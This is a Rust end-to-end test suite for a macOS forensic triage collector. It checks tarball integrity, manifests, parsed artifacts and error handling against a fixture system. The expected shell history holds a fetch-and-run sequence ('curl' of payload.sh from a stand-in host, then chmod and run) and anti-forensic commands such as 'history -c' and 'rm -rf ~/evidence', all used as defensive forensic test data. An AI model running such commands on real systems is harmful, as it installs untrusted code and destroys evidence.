//! End-to-end tests: the real binary on fixture roots.

mod common;

use std::collections::BTreeSet;
use std::os::unix::fs::{MetadataExt, PermissionsExt};
use std::path::Path;

use common::*;

#[test]
fn collects_the_basic_fixture_into_a_valid_tarball() {
    let work = tempfile::tempdir().unwrap();
    let root = work.path().join("root");
    copy_tree(&fixture("mac-basic"), &root);
    let out = work.path().join("out");
    std::fs::create_dir(&out).unwrap();
    let before = snapshot(&root);

    let run = collect(&root, &out, &[]);
    assert_eq!(run.code, 0, "stderr:\n{}", run.stderr);

    // The last stdout line is the absolute path of the tarball, alone.
    let tarball = run.tarball();
    assert!(tarball.is_absolute());
    assert_eq!(tarball.parent().unwrap(), out.canonicalize().unwrap());
    let name = tarball.file_name().unwrap().to_str().unwrap();
    assert!(
        name.starts_with("mactriage_alice-mbp_") && name.ends_with("Z.tar.gz"),
        "{name}"
    );
    let mode = std::fs::metadata(&tarball).unwrap().permissions().mode();
    assert_eq!(mode & 0o777, 0o600);

    // The .sha256 beside it matches the tarball, and the summary says so.
    let sum = std::fs::read_to_string(format!("{}.sha256", tarball.display())).unwrap();
    let digest = sha256(&std::fs::read(&tarball).unwrap());
    assert_eq!(sum, format!("{digest}  {name}\n"));
    assert!(
        run.stderr.contains(&digest),
        "summary lacks the sha256:\n{}",
        run.stderr
    );

    // No staging or temporary files are left behind.
    let left: Vec<_> = std::fs::read_dir(&out)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    assert_eq!(left.len(), 2, "{left:?}");

    let members = members_map(&tarball);
    let man = manifest(&members);
    assert_eq!(man["tool"]["name"], "mactriage");
    assert_eq!(man["host"]["hostname"], "alice-mbp");
    assert_eq!(man["host"]["os_version"], "14.4.1");
    assert_eq!(man["host"]["live"], false);
    assert_eq!(man["collection"]["live"], false);
    assert_eq!(man["summary"]["status"], "ok");

    // Every file the manifest lists is a member with that exact hash, and
    // every [root] member is listed.
    let files = man["files"].as_array().unwrap();
    let mut listed = BTreeSet::new();
    for f in files {
        let member = f["member"].as_str().unwrap();
        let m = &members[member];
        if f["type"] == "symlink" {
            // `/private/etc/localtime`: a link, stored as a link with its
            // target, never followed.
            let source = f["source"].as_str().unwrap();
            let target = std::fs::read_link(root.join(&source[1..])).unwrap();
            assert_eq!(m.kind, tar::EntryType::Symlink, "{member}");
            assert_eq!(f["link_target"], target.to_str().unwrap(), "{member}");
            assert!(f["sha256"].is_null(), "{member}");
            listed.insert(member.to_string());
            continue;
        }
        assert_eq!(f["sha256"].as_str().unwrap(), sha256(&m.data), "{member}");
        assert_eq!(f["size"].as_u64().unwrap(), m.data.len() as u64);
        let source = f["source"].as_str().unwrap();
        assert_eq!(member, format!("[root]{source}"));
        // Byte-exact copy of the source.
        let on_disk = std::fs::read(root.join(&source[1..])).unwrap();
        assert_eq!(on_disk, m.data, "{member}");
        listed.insert(member.to_string());
    }
    // Every directory above a collected file, and every home (even an empty
    // one), is a directory member with the tree's mode, owner and mtime.
    let dirs = man["directories"].as_array().unwrap();
    for d in dirs {
        let member = d["member"].as_str().unwrap();
        let source = d["source"].as_str().unwrap();
        assert_eq!(member, format!("[root]{source}"));
        assert_eq!(d["type"], "directory");
        assert!(d["sha256"].is_null() && d["md5"].is_null());
        let m = &members[member];
        assert_eq!(m.kind, tar::EntryType::Directory, "{member}");
        let meta = std::fs::symlink_metadata(root.join(&source[1..])).unwrap();
        assert_eq!(m.mode, meta.mode() & 0o7777, "{member}");
        assert_eq!(m.mtime, meta.mtime() as u64, "{member}");
        assert_eq!(d["uid"], meta.uid(), "{member}");
        assert_eq!(d["gid"], meta.gid(), "{member}");
        assert_eq!(d["inode"], meta.ino(), "{member}");
        assert_eq!(d["mode"], format!("{:o}", meta.mode()), "{member}");
        assert!(listed.insert(member.to_string()), "{member} listed twice");
    }
    let dir_sources: BTreeSet<&str> = dirs.iter().map(|d| d["source"].as_str().unwrap()).collect();
    for expected in [
        "/Users",
        "/Users/alice",
        "/Users/alice/.zsh_sessions",
        "/Users/Shared",
        "/Users/olduser",
        "/private",
        "/private/var/root",
        "/private/var/db/dslocal/nodes/Default/users",
        "/System/Library/CoreServices",
    ] {
        assert!(dir_sources.contains(expected), "{expected} missing");
    }
    // Each once, and after every file (parents first).
    let order: Vec<(String, tar::EntryType)> = read_tarball(&tarball)
        .into_iter()
        .filter(|(k, _)| k.starts_with("[root]/"))
        .map(|(k, m)| (k, m.kind))
        .collect();
    let first_dir = order
        .iter()
        .position(|(_, k)| *k == tar::EntryType::Directory)
        .unwrap();
    assert!(order[first_dir..]
        .iter()
        .all(|(_, k)| *k == tar::EntryType::Directory));
    let dir_order: Vec<&String> = order[first_dir..].iter().map(|(n, _)| n).collect();
    let mut sorted = dir_order.clone();
    sorted.sort();
    sorted.dedup();
    assert_eq!(dir_order, sorted);
    let in_tar: BTreeSet<String> = members
        .keys()
        .filter(|k| k.starts_with("[root]/"))
        .cloned()
        .collect();
    assert_eq!(listed, in_tar);
    for o in man["outputs"].as_array().unwrap() {
        let member = o["member"].as_str().unwrap();
        assert_eq!(
            o["sha256"].as_str().unwrap(),
            sha256(&members[member].data),
            "{member}"
        );
    }
    for required in [
        "bodyfile/bodyfile.txt",
        "collection.log",
        "manifest.json",
        "parsed/shell_history.jsonl",
        "parsed/quarantine_events.jsonl",
        "parsed/recent_items.jsonl",
        "parsed/browser_history.jsonl",
        "parsed/browser_downloads.jsonl",
        "parsed/asl.jsonl",
    ] {
        assert!(members.contains_key(required), "{required} missing");
    }
    // No member escapes: no absolute names, no `..`.
    for k in members.keys() {
        assert!(
            !k.starts_with('/') && !k.split('/').any(|c| c == ".."),
            "{k}"
        );
    }

    // Body file: one line per collected file, 11 fields, MD5 of the data,
    // then one per directory.
    let body = String::from_utf8(members["bodyfile/bodyfile.txt"].data.clone()).unwrap();
    let lines: Vec<&str> = body.lines().collect();
    assert_eq!(lines.len(), files.len() + dirs.len());
    for l in &lines[files.len()..] {
        let f: Vec<&str> = l.split('|').collect();
        assert_eq!(f.len(), 11, "{l}");
        assert_eq!(f[0], "0", "{l}");
        assert!(f[3].starts_with("d/d"), "{l}");
        let meta = std::fs::symlink_metadata(root.join(&f[1][1..])).unwrap();
        assert_eq!(f[4], meta.uid().to_string(), "{l}");
        assert_eq!(f[8], meta.mtime().to_string(), "{l}");
    }
    for l in &lines[..files.len()] {
        let f: Vec<&str> = l.split('|').collect();
        assert_eq!(f.len(), 11, "{l}");
        if f[3].starts_with("l/l") {
            continue;
        }
        let m = &members[&format!("[root]{}", f[1])];
        assert_eq!(
            f[0],
            hex::encode(<md5::Md5 as sha2::Digest>::digest(&m.data))
        );
        assert!(f[3].starts_with("r/r"), "{l}");
        assert_eq!(f[6], m.data.len().to_string());
    }

    // Every collector that can run on a dead box finds its artifacts: the
    // records and files the fixture holds (see xtask/src/fixtures.rs and
    // fixtures/README.md).
    for (name, records, files) in [
        // Homes only: directories are not counted as files.
        ("host_files", 0, 0),
        ("tcc", 6, 2),
        ("login_history", 4, 1),
        ("known_hosts", 3, 2),
        ("knowledgec", 3, 1),
        ("shell_history", 19, 9),
        ("quarantine_events", 3, 1),
        ("recent_items", 3, 2),
        ("browsers", 11, 6),
        ("asl", 3, 1),
        // The FSEvents store: one page of six records, and its UUID.
        ("fsevents", 6, 2),
        // The install history (3), alice's UpdateHelper receipt (and its
        // .bom) and app (its Info.plist), install.log, a Homebrew formula
        // with its receipt and a cask with its receipt and saved
        // definition.
        ("software", 7, 8),
        // A listing: records, no files archived (alice's .ssh and its two
        // files, and the TCC folder in /Library/Application Support,
        // among them).
        ("files", 23, 0),
        // ExecPolicy (2 scans, 1 provenance, 1 setting), SystemPolicy (a
        // rule and a feature), XPdb (a detection, a setting), .LastGKReject,
        // the XProtect bundle (1 record; meta plist, YARA, Info.plist).
        ("security_logs", 10, 7),
        // 2 Wi-Fi networks, a service and an interface, 4 hosts lines
        // (known networks, preferences.plist, NetworkInterfaces.plist, hosts).
        ("network_config", 8, 4),
    ] {
        let c = collector(&man, name);
        assert_eq!(c["status"], "ok", "{name}: {c}");
        assert_eq!(c["records"], records, "{name}");
        assert_eq!(c["files"], files, "{name}");
    }
    // Files two collectors read are archived once, by whichever reaches
    // them first (they run concurrently), and counted by each: the login
    // window preferences (accounts, persistence, system), launchd's
    // disabled list (persistence, system), the install history (software,
    // system), preferences.plist (system, network_config).
    // accounts: 7 account and group records, the accounts and loginwindow
    // preferences; persistence: two launchd jobs, alice's .zshrc, the
    // hidden script, the launchd overrides and the login window
    // preferences; system: the version, compat, preferences, localtime
    // link, time zone, setup, update, Gatekeeper and firewall files, the
    // overrides, the login window preferences and the install history (see
    // fixtures/README.md).
    for (name, records, files) in [
        ("accounts", 10, 9),
        ("persistence", 5, 6),
        ("system", 38, 12),
    ] {
        let c = collector(&man, name);
        assert_eq!(c["status"], "ok", "{name}: {c}");
        assert_eq!(c["records"], records, "{name}");
        assert_eq!(c["files"], files, "{name}");
    }
    let sys = &man["system"];
    assert_eq!(sys["machine"]["os_version"]["value"], "14.4.1");
    assert_eq!(sys["machine"]["os_compat_version"]["value"], "10.16");
    assert_eq!(sys["machine"]["time_zone"]["value"], "Europe/Paris");
    assert_eq!(
        sys["machine"]["last_update"]["value"],
        "2024-04-02T08:15:30Z"
    );
    for (defence, state) in [
        ("gatekeeper", "on"),
        ("firewall", "on"),
        ("firewall_stealth", "off"),
        ("remote_login", "on"),
        ("screen_sharing", "off"),
        ("remote_management", "unknown"),
        ("auto_login", "off"),
        ("guest", "off"),
        ("filevault", "unknown"),
        ("sip", "unknown"),
    ] {
        assert_eq!(sys["defences"][defence]["state"], state, "{defence}");
    }
    assert_eq!(
        man["summary"]["records"],
        10 + 6 + 4 + 3 + 3 + 39 + 3 + 6 + 23 + 2 + 38 + 7 + 10 + 8
    );
    assert_eq!(
        man["summary"]["files"],
        9 + 2 + 1 + 2 + 1 + 19 + 4 + 2 + 1 + 9 + 8 + 7 + 3
    );
    // network_config's live-only tables are not looked for on a sample
    // tree: no empty stream says "none".
    for stream in ["interfaces", "routes", "arp", "dns_resolvers"] {
        let member = format!("parsed/{stream}.jsonl");
        assert!(!members.contains_key(&member), "{member}");
    }
    assert!(members.contains_key("parsed/wifi_networks.jsonl"));
    let events = jsonl(&members, "fsevents");
    assert_eq!(
        events[2]["full_path"],
        "/System/Volumes/Data/Users/alice/Downloads/Installer.dmg"
    );
    assert_eq!(
        events[2]["flag_names"],
        serde_json::json!(["Created", "ExtendedAttributeModified", "IsFile"])
    );
    assert_eq!(
        events[2]["fseventsd_uuid"],
        "6C0B58B4-5F3A-4C1E-9E1B-2A57D0C4E8F1"
    );

    // The evidence is unchanged: bytes, sizes, modes, mtimes, ctimes.
    assert_eq!(snapshot(&root), before);
}

#[test]
fn the_defences_and_networks_of_the_fixture() {
    let work = tempfile::tempdir().unwrap();
    let run = collect(
        &fixture("mac-basic"),
        work.path(),
        &["--only", "security_logs,network_config"],
    );
    assert_eq!(run.code, 0, "{}", run.stderr);
    let members = members_map(&run.tarball());

    let xp = jsonl(&members, "xprotect");
    assert_eq!(xp.len(), 1);
    assert_eq!(xp[0]["version"], "2192");
    assert_eq!(xp[0]["bundle_version"], "2192");
    assert_eq!(xp[0]["yara_rules"], 3);
    assert_eq!(xp[0]["yara_private_rules"], 1);

    let det = jsonl(&members, "xprotect_detections");
    let ev: Vec<_> = det.iter().filter(|r| r["table"] == "events").collect();
    assert_eq!(ev.len(), 1);
    assert_eq!(ev[0]["timestamp"], "2023-11-14T14:21:09Z");
    assert_eq!(ev[0]["violated_rule"], "XProtect_MACOS_PWS_GENERIC_B");

    let gk = jsonl(&members, "gatekeeper_exec_policy");
    let scan = gk
        .iter()
        .find(|r| r["table"] == "policy_scan_cache" && r["team_identifier"].is_null())
        .unwrap();
    assert_eq!(scan["signing_identifier"], "updater-55554944");
    assert_eq!(scan["timestamp"], "2024-02-13T10:40:00Z");
    assert_eq!(scan["timestamp_raw"], 1_707_820_800);

    let rules = jsonl(&members, "gatekeeper_rules");
    let rule = rules.iter().find(|r| r["table"] == "authority").unwrap();
    assert_eq!(rule["label"], "UnsignedHelper");
    assert_eq!(rule["timestamp"], "2024-02-13T10:39:30Z");
    assert_eq!(rule["row"]["user"], "helpdesk");

    let rej = jsonl(&members, "gatekeeper_reject");
    assert_eq!(rej.len(), 1);
    assert_eq!(rej[0]["path"], "/Users/alice/Downloads/UpdateHelper.app");
    assert_eq!(rej[0]["timestamp"], "2023-11-14T14:21:10Z");

    let wifi = jsonl(&members, "wifi_networks");
    let ssids: Vec<_> = wifi.iter().map(|w| w["ssid"].as_str().unwrap()).collect();
    assert_eq!(ssids, ["alice-home", "Airport-Free-WiFi"]);
    assert_eq!(wifi[1]["captive"], true);
    assert_eq!(wifi[1]["security_type"], "Open");
    assert_eq!(wifi[1]["last_connected"], "2023-11-14T13:55:00Z");

    let svc = jsonl(&members, "network_services");
    let wifi_svc = svc.iter().find(|r| r["kind"] == "service").unwrap();
    assert_eq!(wifi_svc["dns_servers"], serde_json::json!(["10.9.9.9"]));
    assert_eq!(wifi_svc["proxies"]["http"], "127.0.0.1:8899");
    let en0 = svc.iter().find(|r| r["kind"] == "interface").unwrap();
    assert_eq!(en0["mac"], "3c:22:fb:01:02:03");

    let hosts = jsonl(&members, "hosts");
    assert_eq!(hosts.len(), 4);
    assert_eq!(
        hosts[3]["names"],
        serde_json::json!(["swscan.apple.com", "mesu.apple.com"])
    );

    let man = manifest(&members);
    assert_eq!(collector(&man, "security_logs")["status"], "ok");
    assert_eq!(collector(&man, "network_config")["status"], "ok");
}

#[test]
fn shell_history_records_every_command_with_its_time() {
    let work = tempfile::tempdir().unwrap();
    let run = collect(
        &fixture("mac-basic"),
        work.path(),
        &["--only", "shell_history"],
    );
    assert_eq!(run.code, 0, "{}", run.stderr);
    let members = members_map(&run.tarball());
    let recs = jsonl(&members, "shell_history");
    let got: Vec<(String, String, String, String, serde_json::Value)> = recs
        .iter()
        .map(|r| {
            (
                r["user"].as_str().unwrap().into(),
                r["source"].as_str().unwrap().into(),
                r["shell"].as_str().unwrap().into(),
                r["command"].as_str().unwrap().into(),
                r["timestamp"].clone(),
            )
        })
        .filter(|r: &(String, String, String, String, serde_json::Value)| {
            r.1.ends_with(".zsh_history") || r.1.ends_with(".bash_history")
        })
        .collect();
    let t = |s: &str| serde_json::Value::String(s.into());
    let null = serde_json::Value::Null;
    let a = "/Users/alice/.zsh_history";
    let b = "/Users/bob/.bash_history";
    let row = |u: &str, s: &str, sh: &str, c: &str, ts: serde_json::Value| {
        (
            u.to_string(),
            s.to_string(),
            sh.to_string(),
            c.to_string(),
            ts,
        )
    };
    assert_eq!(
        got,
        vec![
            row(
                "alice",
                a,
                "zsh",
                "cd ~/Downloads",
                t("2023-11-14T22:13:20Z")
            ),
            row(
                "alice",
                a,
                "zsh",
                "curl -sL https://example.invalid/payload.sh -o /tmp/p.sh",
                t("2023-11-14T22:13:25Z")
            ),
            row(
                "alice",
                a,
                "zsh",
                "for f in *.pkg; do \n  shasum -a 256 \"$f\"\ndone",
                t("2023-11-14T22:13:30Z")
            ),
            row(
                "alice",
                a,
                "zsh",
                "echo \"日本語のコマンド\"",
                t("2023-11-14T22:13:40Z")
            ),
            row("alice", a, "zsh", "ls 中文目录", t("2023-11-14T22:13:50Z")),
            row(
                "alice",
                a,
                "zsh",
                "chmod +x /tmp/p.sh && /tmp/p.sh",
                t("2023-11-14T22:14:00Z")
            ),
            row("bob", b, "bash", "ls -la", null.clone()),
            row("bob", b, "bash", "whoami", t("2020-09-13T12:26:40Z")),
            row(
                "bob",
                b,
                "bash",
                "cat <<EOF > /tmp/x\nhello\nEOF",
                t("2020-09-13T12:27:40Z")
            ),
            row("bob", b, "bash", "history -c", t("2020-09-13T12:28:40Z")),
            row(
                "olduser",
                "/Users/olduser/.bash_history",
                "bash",
                "rm -rf ~/evidence",
                null
            ),
        ]
    );
    // Record layout: the common keys first, the stored value beside the time.
    let first = &recs.iter().find(|r| r["source"] == a).unwrap();
    let keys: Vec<&str> = first
        .as_object()
        .unwrap()
        .keys()
        .map(|k| k.as_str())
        .collect();
    assert_eq!(&keys[..4], ["collector", "source", "user", "timestamp"]);
    assert_eq!(first["timestamp_raw"], 1_700_000_000);
    assert_eq!(first["duration_s"], 0);
    assert_eq!(first["line"], 1);
    // Session histories and root's history are there too.
    assert!(recs
        .iter()
        .any(|r| r["command"] == "sudo -l" && r["shell"] == "zsh"));
    assert!(recs
        .iter()
        .any(|r| r["command"] == "ssh admin@10.0.0.5" && r["shell"] == "bash"));
    assert!(recs
        .iter()
        .any(|r| r["command"] == "launchctl list" && r["user"] == "root"));
}

/// What the fixture's generated artifacts hold, as the collectors report
/// it; the values are those written by xtask/src/fixtures.rs.
#[test]
fn the_fixture_artifacts_parse_to_what_was_written() {
    let work = tempfile::tempdir().unwrap();
    let run = collect(
        &fixture("mac-basic"),
        work.path(),
        &["--skip", "shell_history"],
    );
    assert_eq!(run.code, 0, "{}", run.stderr);
    let members = members_map(&run.tarball());
    let field = |stream: &str, key: &str| -> Vec<serde_json::Value> {
        jsonl(&members, stream)
            .iter()
            .map(|r| r[key].clone())
            .collect()
    };
    let s = |v: &[&str]| -> Vec<serde_json::Value> { v.iter().map(|x| (*x).into()).collect() };

    // Quarantine: a mail attachment, then Safari's and Chrome's downloads.
    assert_eq!(
        field("quarantine_events", "type"),
        s(&["EmailAttachment", "WebDownload", "WebDownload"])
    );
    assert_eq!(
        field("quarantine_events", "timestamp"),
        s(&[
            "2023-11-14T21:54:12Z",
            "2023-11-14T22:02:43Z",
            "2023-11-14T22:05:33Z"
        ])
    );
    assert_eq!(
        jsonl(&members, "quarantine_events")[0]["sender_address"],
        "billing@example.invalid"
    );

    // Recent items: paths decoded from the bookmarks, no decoding error.
    assert_eq!(
        field("recent_items", "path"),
        s(&[
            "/System/Applications/Utilities/Terminal.app",
            "/Users/alice/Downloads/Invoice_2023-11.zip",
            "/Users/alice/Documents/Q4 budget.xlsx"
        ])
    );
    assert!(field("recent_items", "bookmark_error")
        .iter()
        .all(|e| e.is_null()));

    // History: Safari's redirect pair, Chrome's typed and linked visits,
    // and Firefox's download visit, which exists only in the -wal.
    let hist = jsonl(&members, "browser_history");
    let got: Vec<(&str, &str, &str)> = hist
        .iter()
        .map(|r| {
            (
                r["browser"].as_str().unwrap(),
                r["url"].as_str().unwrap(),
                r["timestamp"].as_str().unwrap(),
            )
        })
        .collect();
    assert_eq!(
        got,
        vec![
            (
                "Safari",
                "http://example.invalid/update",
                "2023-11-14T22:02:10Z"
            ),
            (
                "Safari",
                "https://example.invalid/update",
                "2023-11-14T22:02:10.500Z"
            ),
            (
                "Safari",
                "https://example.invalid/update/download",
                "2023-11-14T22:02:41Z"
            ),
            (
                "Google Chrome",
                "https://www.example.com/",
                "2023-11-14T22:05:00Z"
            ),
            (
                "Google Chrome",
                "https://files.example.invalid/s/7Hq2",
                "2023-11-14T22:05:30Z"
            ),
            (
                "Firefox",
                "https://www.mozilla.org/en-US/firefox/",
                "2020-09-13T12:20:00Z"
            ),
            (
                "Firefox",
                "https://example.org/tools/",
                "2020-09-13T12:21:10Z"
            ),
            (
                "Firefox",
                "https://example.org/tools/netcat-0.7.1.tar.gz",
                "2020-09-13T12:22:05Z"
            ),
        ]
    );
    assert_eq!(hist[1]["redirect_source"], "http://example.invalid/update");
    assert_eq!(hist[4]["referrer"], "https://www.example.com/");
    assert_eq!(hist[7]["visit_type"], "DOWNLOAD");
    assert!(members.contains_key(
        "[root]/Users/bob/Library/Application Support/Firefox/Profiles/k3x9w2pq.default-release/places.sqlite-wal"
    ));
    assert!(
        members.contains_key("[root]/Users/bob/Library/Application Support/Firefox/profiles.ini")
    );

    // Downloads: one per browser, with where the file went.
    assert_eq!(
        field("browser_downloads", "target_path"),
        s(&[
            "/Users/alice/Downloads/UpdateHelper.pkg",
            "/Users/alice/Downloads/report.pdf.zip",
            "/Users/bob/Downloads/netcat-0.7.1.tar.gz"
        ])
    );
    let dl = jsonl(&members, "browser_downloads");
    assert_eq!(dl[0]["target_path_source"], "bookmark");
    assert_eq!(
        dl[1]["url_chain"],
        serde_json::json!([
            "https://files.example.invalid/s/7Hq2/download",
            "https://dl.example.invalid/b/report.pdf.zip"
        ])
    );
    assert_eq!(dl[2]["state"], "FINISHED");

    // The system log.
    assert_eq!(field("asl", "sender"), s(&["loginwindow", "sudo", "sshd"]));
    assert_eq!(
        jsonl(&members, "asl")[0]["timestamp"],
        "2023-11-14T21:50:03.125000000Z"
    );
    assert_eq!(
        jsonl(&members, "asl")[0]["extra"]["Sender Mach UUID"],
        "6B9E1C2D-3A4F-3B5E-8C7D-0E1F2A3B4C5D"
    );
}

#[test]
fn broken_files_give_exit_1_an_error_each_and_a_tarball() {
    let work = tempfile::tempdir().unwrap();
    let root = work.path().join("root");
    copy_tree(&fixture("mac-basic"), &root);
    let alice = root.join("Users/alice");
    // Binary garbage, invalid UTF-8, a non-UTF-8 file name, an unreadable
    // file (when not root), a FIFO, and a symlink out of the evidence.
    std::fs::write(alice.join(".zsh_history"), b"\x00\x01\x02\xff garbage \x00").unwrap();
    std::fs::write(root.join("Users/bob/.bash_history"), b"ok\n\xff\xfe\xfd\n").unwrap();
    {
        use std::os::unix::ffi::OsStrExt;
        let name = std::ffi::OsStr::from_bytes(b".caf\xe9_history");
        std::fs::write(alice.join(name), b"latin1 name\n").unwrap();
    }
    nix::unistd::mkfifo(
        &alice.join(".node_repl_history"),
        nix::sys::stat::Mode::from_bits_truncate(0o600),
    )
    .unwrap();
    std::os::unix::fs::symlink("/etc/passwd", alice.join(".psql_history")).unwrap();
    let out = work.path().join("out");
    std::fs::create_dir(&out).unwrap();
    let before = snapshot(&root);

    let run = collect(&root, &out, &[]);
    assert_eq!(run.code, 1, "stderr:\n{}", run.stderr);
    let members = members_map(&run.tarball());
    let man = manifest(&members);
    assert_eq!(man["summary"]["status"], "partial");
    let sh = collector(&man, "shell_history");
    assert_eq!(sh["status"], "partial");
    let errors: Vec<(String, String)> = sh["errors"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| {
            (
                e["path"].as_str().unwrap().to_string(),
                e["message"].as_str().unwrap().to_string(),
            )
        })
        .collect();
    let find = |p: &str| {
        errors
            .iter()
            .find(|e| e.0.ends_with(p))
            .unwrap_or_else(|| panic!("no error for {p}: {errors:?}"))
            .1
            .clone()
    };
    assert!(find("/Users/alice/.zsh_history").contains("NUL"));
    assert!(find("/Users/bob/.bash_history").contains("not valid UTF-8"));
    assert!(find("/Users/alice/.node_repl_history").contains("FIFO"));
    assert_eq!(errors.len(), 3, "{errors:?}");
    // A name that is not UTF-8 is no error: it is collected, shown lossily,
    // and kept exactly beside (docs/output.md).
    let entry = man["files"]
        .as_array()
        .unwrap()
        .iter()
        .find(|f| f["source"] == "/Users/alice/.caf\u{fffd}_history")
        .expect("the non-UTF-8 history is collected");
    assert_eq!(entry["source_b64"], "L1VzZXJzL2FsaWNlLy5jYWbpX2hpc3Rvcnk=");
    // Each error is in the log too.
    let log = String::from_utf8_lossy(&members["collection.log"].data).into_owned();
    assert!(
        log.contains("/Users/alice/.node_repl_history: not a regular file (FIFO)"),
        "{log}"
    );
    // The symlink is stored as a symlink to its target, never read.
    let link = &members["[root]/Users/alice/.psql_history"];
    assert_eq!(link.kind, tar::EntryType::Symlink);
    assert_eq!(link.link.as_deref(), Some(Path::new("/etc/passwd")));
    // The other users' good commands are still there.
    let recs = jsonl(&members, "shell_history");
    assert!(recs.iter().any(|r| r["command"] == "rm -rf ~/evidence"));
    assert!(recs
        .iter()
        .any(|r| r["command"] == "\u{fffd}\u{fffd}\u{fffd}" && r["lossy"] == true));
    assert_eq!(snapshot(&root), before);
}

#[test]
fn messages_name_a_symlinked_directory_plainly() {
    let work = tempfile::tempdir().unwrap();
    let root = work.path().join("root");
    copy_tree(&fixture("mac-basic"), &root);
    let lib = root.join("Users/bob/Library");
    std::fs::remove_dir_all(&lib).unwrap();
    std::os::unix::fs::symlink("../Library", &lib).unwrap();
    let out = work.path().join("out");
    std::fs::create_dir(&out).unwrap();
    let run = collect(&root, &out, &[]);
    assert_eq!(run.code, 1, "{}", run.stderr);
    let members = members_map(&run.tarball());
    let errors = all_errors(&manifest(&members));
    assert!(
        errors.iter().any(|(_, m)| m
            .ends_with("/Users/bob/Library is a symbolic link to ../Library; not followed")),
        "{errors:?}"
    );
    // No Rust debug notation (`Some("...")`) in what the examiner reads.
    let log = String::from_utf8_lossy(&members["collection.log"].data).into_owned();
    for text in [&log, &run.stderr] {
        assert!(!text.contains("Some("), "{text}");
    }
    assert!(
        !errors.iter().any(|(_, m)| m.contains("Some(")),
        "{errors:?}"
    );
}

#[test]
fn bad_arguments_exit_2_without_a_tarball() {
    let work = tempfile::tempdir().unwrap();
    let cases: Vec<(Vec<String>, &str)> = vec![
        (
            vec![
                "collect".into(),
                "--root".into(),
                "/nonexistent/root".into(),
            ],
            "--root /nonexistent/root: no such directory",
        ),
        (
            vec![
                "collect".into(),
                "--only".into(),
                "nosuch".into(),
                "--root".into(),
                fixture("mac-basic").display().to_string(),
            ],
            "unknown collector",
        ),
        (
            vec![
                "collect".into(),
                "--output".into(),
                "/nonexistent/out".into(),
                "--root".into(),
                fixture("mac-basic").display().to_string(),
            ],
            // Which path, what is wrong, and what to do.
            "--output /nonexistent/out: no such directory; create it first (mkdir -p \"/nonexistent/out\")",
        ),
        (
            vec![
                "collect".into(),
                "--time-limit".into(),
                "soon".into(),
                "--root".into(),
                fixture("mac-basic").display().to_string(),
            ],
            "--time-limit",
        ),
        (vec!["collect".into(), "--bogus".into()], "--bogus"),
    ];
    for (args, expect) in cases {
        let out = bin().current_dir(work.path()).args(&args).output().unwrap();
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert_eq!(out.status.code(), Some(2), "{args:?}: {stderr}");
        assert!(stderr.contains(expect), "{args:?}: {stderr}");
        assert!(out.stdout.is_empty(), "{args:?}");
    }
    assert_eq!(std::fs::read_dir(work.path()).unwrap().count(), 0);
}

#[test]
fn unwritable_output_exits_2() {
    if nix::unistd::geteuid().is_root() {
        // root may write anywhere; covered by the read-only case below.
        let work = tempfile::tempdir().unwrap();
        let run = collect(&fixture("mac-basic"), Path::new("/proc"), &[]);
        assert_eq!(run.code, 2, "{}", run.stderr);
        assert!(run.stderr.contains("error"), "{}", run.stderr);
        drop(work);
        return;
    }
    let work = tempfile::tempdir().unwrap();
    let out = work.path().join("ro");
    std::fs::create_dir(&out).unwrap();
    std::fs::set_permissions(&out, std::fs::Permissions::from_mode(0o500)).unwrap();
    let run = collect(&fixture("mac-basic"), &out, &[]);
    assert_eq!(run.code, 2);
    assert!(run.stderr.contains("not writable"), "{}", run.stderr);
}

/// A home that the user running the tool cannot read gives one error per
/// collector that reads homes, with the count of paths not read, instead of
/// one per path (44 lines before). Run as an unprivileged user: directly
/// when not root, through setpriv(1) as nobody when root.
#[test]
fn an_unreadable_home_is_one_line_per_collector_not_one_per_artifact() {
    let work = tempfile::tempdir().unwrap();
    let base = work.path();
    std::fs::set_permissions(base, std::fs::Permissions::from_mode(0o755)).unwrap();
    // The binary is copied beside the root, so that the unprivileged user
    // can run it wherever the build tree is.
    let exe = base.join("mactriage");
    std::fs::copy(env!("CARGO_BIN_EXE_mactriage"), &exe).unwrap();
    std::fs::set_permissions(&exe, std::fs::Permissions::from_mode(0o755)).unwrap();
    let root = base.join("root");
    copy_tree(&fixture("mac-basic"), &root);
    let out = base.join("out");
    std::fs::create_dir(&out).unwrap();
    std::fs::set_permissions(&out, std::fs::Permissions::from_mode(0o777)).unwrap();
    let alice = root.join("Users/alice");
    std::fs::set_permissions(&alice, std::fs::Permissions::from_mode(0o000)).unwrap();

    let mut cmd = if nix::unistd::geteuid().is_root() {
        let mut c = std::process::Command::new("setpriv");
        c.args(["--reuid=65534", "--regid=65534", "--clear-groups", "--"])
            .arg(&exe);
        c
    } else {
        std::process::Command::new(&exe)
    };
    let output = cmd
        .arg("collect")
        .arg("--root")
        .arg(&root)
        .arg("--output")
        .arg(&out)
        .output()
        .unwrap_or_else(|e| {
            panic!("cannot run as an unprivileged user (setpriv, util-linux): {e}")
        });
    std::fs::set_permissions(&alice, std::fs::Permissions::from_mode(0o755)).unwrap();
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert_eq!(output.status.code(), Some(1), "{stderr}");
    let warnings: Vec<&str> = stderr
        .lines()
        .filter(|l| l.contains(" WARN ") && l.contains("/Users/alice"))
        .collect();
    assert_eq!(warnings.len(), 10, "{stderr}");
    let stdout = String::from_utf8_lossy(&output.stdout);
    let members = members_map(Path::new(stdout.lines().last().unwrap()));
    let man = manifest(&members);
    for (name, refused) in [
        ("shell_history", 1),
        ("quarantine_events", 2),
        ("recent_items", 4),
        ("browsers", 36),
        // known_hosts, known_hosts2, known_hosts.old, config.
        ("known_hosts", 4),
        ("tcc", 1),
        ("knowledgec", 1),
        // LaunchAgents, BTM, login items and hooks, plug-in folders, shell
        // start-up files, authorized_keys (docs/collectors/persistence.md).
        ("persistence", 25),
        // The home's hidden entries, Downloads, Desktop, LaunchAgents.
        ("files", 4),
        // ~/Applications.
        ("software", 1),
    ] {
        let c = collector(&man, name);
        let alice: Vec<&serde_json::Value> = c["errors"]
            .as_array()
            .unwrap()
            .iter()
            .filter(|e| e["path"].as_str().unwrap_or("").starts_with("/Users/alice"))
            .collect();
        assert_eq!(alice.len(), 1, "{name}: {alice:#?}");
        assert_eq!(alice[0]["path"], "/Users/alice");
        let msg = alice[0]["message"].as_str().unwrap();
        assert!(
            msg.starts_with("home directory not readable: Permission denied")
                && msg.ends_with(&format!(
                    "{refused} {} not read",
